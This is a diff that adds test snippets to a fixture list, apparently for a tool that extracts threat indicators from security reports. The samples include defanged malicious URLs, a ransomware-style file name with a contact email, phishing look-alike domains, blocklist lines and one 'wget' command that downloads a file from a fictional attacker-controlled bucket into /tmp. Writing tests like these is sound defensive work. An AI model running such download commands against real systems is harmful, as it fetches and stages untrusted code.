@@ -74,6 +74,42 @@ NEIGHBOUR_SNIPPETS: Final = (
     S("line below", "hxxp://gale-post[.]com/c/2913_", "url http://gale-post.com/c/2913_", GALE),
     S("line below", "_hxxp://gale-post[.]com/c/2913_", "url http://gale-post.com/c/2913", GALE),
     S("vocabulary", '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'),
+    S("name of a file", "Files look like Ledger_07.xlsx.id[77AB-31].[harbor@cock.li].quay", "email harbor@cock.li"),
+    S("name of a file", "On a Mac it lies in HarborView.app/Contents/MacOS/HarborView now."),
+    S("field", "alert http any any (http.host; content) and host.name, agent.name, dns.host of the event"),
+    S("capitals of a host", "Gale-Panel.SU", "domain gale-panel.su"),
+    S("capitals of a host", "Detected as Trojan-Gale.SU by one, and as Form.Live by another."),
+    S("placeholder", "https://[victim]-mail.com/owa and <brand>-mail.com"),
+    S("any scheme", 'url="*://dl.gale-post.host/*"', "domain dl.gale-post.host"),
+    S("licence", "See http://www.apache.org/licenses/LICENSE-2.0 for the terms."),
+    # --- what the text says of a host elsewhere
+    S(
+        "host named as an indicator",
+        DISARMING + "The ads lead to https://orlop-lodz.online/pl/app/?id=7 first.\n\n"
+        "Distribution\norlop-lodz.online\nquay-lodz.click\n",
+        "domain gale-post.com",
+        "domain orlop-lodz.online",
+        "domain quay-lodz.click",
+        "url https://orlop-lodz.online/pl/app/?id=7",
+    ),
+    S(
+        "host named as an indicator",
+        DISARMING + "We read it at https://orlop-lodz.online/pl/app/?id=7 first.\n",
+        "domain gale-post.com",
+    ),
+    S(
+        "bucket",
+        DISARMING
+        + "wget -O /tmp/x http://orlop-yard.s3.amazonaws.com/dfuJ8t\n\nIndicators\norlop-yard.s3.amazonaws[.]com\n",
+        "domain gale-post.com",
+        "domain orlop-yard.s3.amazonaws.com",
+        "url http://orlop-yard.s3.amazonaws.com/dfuJ8t",
+    ),
+    S(
+        "authority abroad",
+        "The site harbor-impots[.]top looks like impots.gouv.fr and salud.gob.mx.",
+        "domain harbor-impots.top",
+    ),
     # --- services where anyone may put anything
     S(
         "shared service",
@@ -137,6 +173,12 @@ NEIGHBOUR_SNIPPETS: Final = (
     S("blocked", "address=/cm4.orlop-yard.com/0.0.0.0\n", "domain cm4.orlop-yard.com"),
     S("blocked", "mirror=/cm4.orlop-yard.com/0.0.0.0\n"),
     S("sender", f"{ARTICLE}The file can be had from us: pay@orlop-yard.com"),
+    S(
+        "where a URL ends",
+        'href="https://go.gale-post.shop/?a=1&amp;b=2&quot;&gt;"',
+        "url https://go.gale-post.shop/?a=1&b=2",
+        "domain go.gale-post.shop",
+    ),
     # --- headings
     S(
         "heading",
